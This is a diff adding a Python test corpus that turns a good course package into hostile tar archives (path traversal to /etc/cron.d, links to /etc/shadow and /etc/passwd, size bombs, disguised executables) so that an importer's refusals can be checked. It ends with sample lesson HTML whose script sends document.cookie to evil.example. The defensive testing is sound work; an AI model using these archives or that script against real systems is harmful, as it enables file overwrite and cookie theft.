@@ -1,0 +1,365 @@
+"""The hostile-package corpus, as code: each case turns a good package into a bad tar.
+
+Nothing here is a committed binary. A case takes the members of a good package (its parsed
+manifest and its files) and returns the bytes of a tar that ``import_package`` must refuse,
+together with words that the refusal message must contain.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import tarfile
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+from content.manifest import dumps
+
+BLOCK = 512
+RECORD = 20 * BLOCK
+PNG_NAME = "media/pic.png"
+
+
+@dataclass
+class Good:
+    """A good package taken apart: the manifest (parsed) and every other member's bytes."""
+
+    manifest: dict[str, Any]
+    files: dict[str, bytes]
+
+    def copy(self) -> Good:
+        return Good(json.loads(json.dumps(self.manifest)), dict(self.files))
+
+
+def take_apart(package: Path) -> Good:
+    """Read one of *our own* packages (trusted here) into a :class:`Good`."""
+    files: dict[str, bytes] = {}
+    manifest: dict[str, Any] = {}
+    with tarfile.open(package, "r:") as tar:
+        for member in tar:
+            stream = tar.extractfile(member)
+            assert stream is not None
+            if member.name == "manifest.json":
+                manifest = json.loads(stream.read())
+            else:
+                files[member.name] = stream.read()
+    return Good(manifest, files)
+
+
+def header(
+    name: str,
+    size: int = 0,
+    *,
+    kind: bytes = tarfile.REGTYPE,
+    linkname: str = "",
+    pax: dict[str, str] | None = None,
+    fmt: int = tarfile.PAX_FORMAT,
+) -> bytes:
+    """Header block(s) for one member; ``size`` is what is *declared* (it may lie)."""
+    info = tarfile.TarInfo(name)
+    info.size = size
+    info.type = kind
+    info.linkname = linkname
+    info.mode = 0o644
+    info.pax_headers = dict(pax or {})
+    return info.tobuf(fmt, "utf-8", "surrogateescape")
+
+
+def member(name: str, data: bytes = b"", **options: Any) -> bytes:
+    """A whole member: header, data, padding."""
+    return header(name, len(data), **options) + data + b"\0" * (-len(data) % BLOCK)
+
+
+def end(body: bytes) -> bytes:
+    """Add the end-of-archive marker and record padding."""
+    body += b"\0" * (2 * BLOCK)
+    return body + b"\0" * (-len(body) % RECORD)
+
+
+def listing(files: dict[str, bytes], old: list[dict[str, Any]]) -> list[dict[str, Any]]:
+    """Manifest ``files`` entries for ``files`` (media types kept from ``old`` when known)."""
+    types = {entry["path"]: entry["media_type"] for entry in old}
+    return [
+        {
+            "path": path,
+            "size": len(data),
+            "sha256": hashlib.sha256(data).hexdigest(),
+            "media_type": types.get(path, "image/png"),
+        }
+        for path, data in sorted(files.items())
+    ]
+
+
+def archive(good: Good, *, relist: bool = True, extra: bytes = b"", finish: bool = True) -> bytes:
+    """A tar of ``good`` (manifest first, relisted); ``extra`` members go at the end."""
+    manifest = good.manifest
+    if relist:
+        manifest = {**manifest, "files": listing(good.files, manifest["files"])}
+    body = member("manifest.json", dumps(manifest))
+    body += b"".join(member(path, data) for path, data in sorted(good.files.items()))
+    return end(body + extra) if finish else body + extra
+
+
+def with_member(name: str, data: bytes = b"x", **options: Any) -> Callable[[Good], bytes]:
+    """A case: the good package plus one extra (unlisted) member."""
+    return lambda good: archive(good, extra=member(name, data, **options))
+
+
+def with_listed(files: dict[str, bytes]) -> Callable[[Good], bytes]:
+    """A case: the good package plus extra members that are listed in the manifest."""
+
+    def build(good: Good) -> bytes:
+        bad = good.copy()
+        bad.files.update(files)
+        return archive(bad)
+
+    return build
+
+
+def twice(first: str, second: str) -> Callable[[Good], bytes]:
+    """A case: two listed members whose names collide."""
+
+    def build(good: Good) -> bytes:
+        bad = good.copy()
+        data = bad.files[PNG_NAME]
+        body = member("manifest.json", dumps(bad.manifest))
+        body += b"".join(member(p, d) for p, d in sorted(bad.files.items()))
+        return end(body + member(first, data) + member(second, data))
+
+    return build
+
+
+def manifest_not_first(good: Good) -> bytes:
+    body = member(PNG_NAME, good.files[PNG_NAME]) + member("manifest.json", dumps(good.manifest))
+    return end(body + b"".join(member(p, d) for p, d in good.files.items() if p != PNG_NAME))
+
+
+def many_members(good: Good) -> bytes:
+    names = [f"media/many/{index:05}.vtt" for index in range(20_001)]
+    return archive(good, extra=b"".join(header(name) for name in names))
+
+
+def truncated_last(good: Good) -> bytes:
+    # The last member declares 1 MiB, has 100 bytes, and the package simply ends.
+    return archive(good, extra=header("media/zz.webm", 1 << 20) + b"\x1a" * 100, finish=False)
+
+
+def size_lies_short(good: Good) -> bytes:
+    # Declares fewer bytes than follow: the rest of its data is read as the next header.
+    data = good.files[PNG_NAME] + os.urandom(600)
+    return archive(good, extra=header("media/lie.png", 10) + data)
+
+
+def size_bomb(good: Good) -> bytes:
+    return archive(good, extra=header("media/bomb.webm", 3 << 30))
+
+
+def pax_size_bomb(good: Good) -> bytes:
+    return archive(good, extra=header("media/bomb.webm", 1, pax={"size": str(10**15)}))
+
+
+def huge_pax_header(good: Good) -> bytes:
+    raw = header("media/x.png", kind=tarfile.XHDTYPE)
+    fake = bytearray(raw[:BLOCK])
+    fake[124:136] = b"%011o\0" % (1 << 30)
+    fake[148:156] = b"        "
+    fake[148:156] = b"%06o\0 " % sum(fake)
+    return archive(good, extra=bytes(fake))
+
+
+def random_bytes(_good: Good) -> bytes:
+    return os.urandom(64 * 1024)
+
+
+def empty_file(_good: Good) -> bytes:
+    return b""
+
+
+def data_after_end(good: Good) -> bytes:
+    return archive(good) + os.urandom(1000)
+
+
+def gnu_format(good: Good) -> bytes:
+    return archive(good, extra=member("media/gnu.png", b"x", fmt=tarfile.GNU_FORMAT))
+
+
+def lists_missing(good: Good) -> bytes:
+    bad = good.copy()
+    del bad.files[PNG_NAME]
+    return archive(bad, relist=False)
+
+
+def wrong_hash(good: Good) -> bytes:
+    bad = good.copy()
+    bad.files[PNG_NAME] = bad.files[PNG_NAME][:-1] + b"\x01"
+    return archive(bad, relist=False)
+
+
+def wrong_size(good: Good) -> bytes:
+    bad = good.copy()
+    bad.files[PNG_NAME] += b"\0"
+    return archive(bad, relist=False)
+
+
+def unlisted_file(good: Good) -> bytes:
+    return archive(good, extra=member("media/extra.png", good.files[PNG_NAME]))
+
+
+def png_holding_html(good: Good) -> bytes:
+    bad = good.copy()
+    bad.files[PNG_NAME] = b"<!doctype html><script>alert(1)</script>"
+    return archive(bad)
+
+
+def exe_as_webm(good: Good) -> bytes:
+    bad = good.copy()
+    bad.files["media/v.webm"] = b"\x7fELF" + b"\0" * 100
+    return archive(bad)
+
+
+def wrong_media_type(good: Good) -> bytes:
+    bad = good.copy()
+    for entry in bad.manifest["files"]:
+        if entry["path"] == PNG_NAME:
+            entry["media_type"] = "image/gif"
+    return archive(bad)
+
+
+def invalid_manifest(good: Good) -> bytes:
+    bad = good.copy()
+    bad.manifest["course"]["id"] = "../../etc"
+    return archive(bad)
+
+
+def manifest_not_json(good: Good) -> bytes:
+    body = member("manifest.json", b"{not json")
+    return end(body + b"".join(member(p, d) for p, d in sorted(good.files.items())))
+
+
+def stray_lesson_html(good: Good) -> bytes:
+    return with_listed({"lessons/stray.html": b"<p>hi</p>"})(good)
+
+
+def bad_utf8_name(good: Good) -> bytes:
+    return archive(good, extra=member("media/\udcff.png", b"x", fmt=tarfile.USTAR_FORMAT))
+
+
+@dataclass(frozen=True)
+class Case:
+    """One hostile package and the words its refusal must contain."""
+
+    build: Callable[[Good], bytes]
+    expect: tuple[str, ...]
+    limits: dict[str, int] = field(default_factory=dict)
+
+
+NFD_E = "e\u0301"
+DEPTH_300 = "media/" + "d/" * 300 + "x.png"
+
+CASES: dict[str, Case] = {
+    "dot-dot": Case(with_member("media/../../evil.png"), ("'..'", "media/../../evil.png")),
+    "dot-dot-top": Case(with_member("../evil"), ("'..'", "../evil")),
+    "absolute": Case(with_member("/etc/cron.d/evil"), ("absolute path", "/etc/cron.d/evil")),
+    "symlink-inside": Case(
+        with_member("media/link.png", b"", kind=tarfile.SYMTYPE, linkname="pic.png"),
+        ("symbolic link", "media/link.png"),
+    ),
+    "symlink-outside": Case(
+        with_member("media/link.png", b"", kind=tarfile.SYMTYPE, linkname="/etc/shadow"),
+        ("symbolic link", "media/link.png"),
+    ),
+    "hardlink-inside": Case(
+        with_member("media/hard.png", b"", kind=tarfile.LNKTYPE, linkname=PNG_NAME),
+        ("hard link", "media/hard.png"),
+    ),
+    "hardlink-outside": Case(
+        with_member("media/hard.png", b"", kind=tarfile.LNKTYPE, linkname="/etc/passwd"),
+        ("hard link", "media/hard.png"),
+    ),
+    "char-device": Case(
+        with_member("media/null", b"", kind=tarfile.CHRTYPE), ("character device", "media/null")
+    ),
+    "block-device": Case(
+        with_member("media/sda", b"", kind=tarfile.BLKTYPE), ("block device", "media/sda")
+    ),
+    "fifo": Case(with_member("media/pipe", b"", kind=tarfile.FIFOTYPE), ("FIFO", "media/pipe")),
+    "pax-global": Case(
+        with_member("pax_global_header", b"", kind=tarfile.XGLTYPE), ("pax global header",)
+    ),
+    "gnu-sparse": Case(
+        with_member("media/sparse.webm", b"", kind=tarfile.GNUTYPE_SPARSE), ("GNU sparse",)
+    ),
+    "pax-sparse-key": Case(
+        with_member("media/s.webm", b"x", pax={"GNU.sparse.map": "0,1"}), ("GNU.sparse.map",)
+    ),
+    "gnu-format": Case(gnu_format, ("GNU tar format",)),
+    "duplicate": Case(twice("media/dup.png", "media/dup.png"), ("twice", "media/dup.png")),
+    "case-collision": Case(twice("media/Dup.png", "media/dup.png"), ("twice", "media/dup.png")),
+    "casefold-collision": Case(twice("media/ﬁle.png", "media/FILE.png"), ("twice",)),
+    "nfd-name": Case(twice(f"media/caf{NFD_E}.png", "media/x.png"), ("NFC", "media/caf")),
+    "kelvin-sign": Case(with_member("media/\u212a.png"), ("NFC",)),
+    "file-then-folder": Case(
+        twice("media/thing", "media/thing/inner.png"), ("inside a file", "media/thing/inner.png")
+    ),
+    "folder-then-file": Case(
+        twice("media/thing/inner.png", "media/thing"), ("both a file and a folder", "media/thing")
+    ),
+    "folder-entry-then-file": Case(
+        lambda good: archive(
+            good,
+            extra=member("media/thing/", kind=tarfile.DIRTYPE) + member("media/thing", b"x"),
+        ),
+        ("both a file and a folder", "media/thing"),
+    ),
+    "control-char": Case(with_member("media/a\nb.png"), ("control character", "media/a\\x0ab.png")),
+    "bidi-override": Case(with_member("media/gnp\u202e.exe"), ("control character", "\\u202e")),
+    "backslash": Case(with_member("media\\..\\evil.png"), ("backslash",)),
+    "outside-top-folders": Case(with_member("evil.sh"), ("outside lessons/ and media/", "evil.sh")),
+    "duplicate-manifest": Case(with_member("manifest.json", b"{}"), ("twice", "manifest.json")),
+    "deep-300": Case(with_member(DEPTH_300), ("302 levels deep", "the limit is 9")),
+    "long-name": Case(with_member("media/" + "n" * 300 + ".png"), ("longer than 255",)),
+    "many-members": Case(many_members, ("more than 20,000 members",)),
+    "truncated-last": Case(truncated_last, ("truncated", "media/zz.webm", "1,048,576")),
+    "size-lies-short": Case(size_lies_short, ("damaged", "media/lie.png")),
+    "size-bomb": Case(size_bomb, ("media/bomb.webm", "declares 3,221,225,472 bytes")),
+    "pax-size-bomb": Case(pax_size_bomb, ("media/bomb.webm", "declares 1,000,000,000,000,000")),
+    "total-size": Case(
+        with_member("media/big.png", b"x" * (9 << 20)),
+        ("more than 8,388,608 bytes", "media/big.png"),
+        {"max_package_bytes": 8 << 20},
+    ),
+    "huge-pax-header": Case(huge_pax_header, ("pax header of 1,073,741,824 bytes",)),
+    "random-bytes": Case(random_bytes, ("damaged",)),
+    "empty-file": Case(empty_file, ("ends in the middle of a header",)),
+    "data-after-end": Case(data_after_end, ("data after the end",)),
+    "non-utf8-name": Case(bad_utf8_name, ("not valid UTF-8",)),
+    "manifest-not-first": Case(manifest_not_first, ("manifest.json must be the first", PNG_NAME)),
+    "manifest-invalid": Case(invalid_manifest, ("manifest.json is not valid", "course/id")),
+    "manifest-not-json": Case(manifest_not_json, ("not valid JSON",)),
+    "lists-missing": Case(lists_missing, ("listed in the manifest but missing", PNG_NAME)),
+    "wrong-hash": Case(wrong_hash, ("SHA-256", PNG_NAME)),
+    "wrong-size": Case(wrong_size, ("the manifest says", PNG_NAME)),
+    "unlisted-file": Case(unlisted_file, ("not in the manifest", "media/extra.png")),
+    "png-holding-html": Case(png_holding_html, ("HTML document", PNG_NAME)),
+    "exe-as-webm": Case(exe_as_webm, ("ELF executable", "media/v.webm")),
+    "wrong-media-type": Case(wrong_media_type, ("manifest says image/gif", PNG_NAME)),
+    "stray-lesson-html": Case(stray_lesson_html, ("lessons/stray.html",)),
+}
+
+
+HOSTILE_HTML = (
+    '<h2 id="intro">Hi</h2><p onclick="steal()">Text</p>'
+    "<script>fetch('http://evil.example/'+document.cookie)</script>"
+    '<iframe src="http://evil.example/"></iframe><img src="media/pic.png" onerror="x()">'
+)
+
+
+def hostile_html(good: Good) -> tuple[bytes, str]:
+    """A package whose first lesson's HTML carries script, a frame and event handlers."""
+    bad = good.copy()
+    path = bad.manifest["lessons"][0]["html"]
+    bad.files[path] = HOSTILE_HTML.encode("utf-8")
+    return archive(bad), bad.manifest["lessons"][0]["key"]
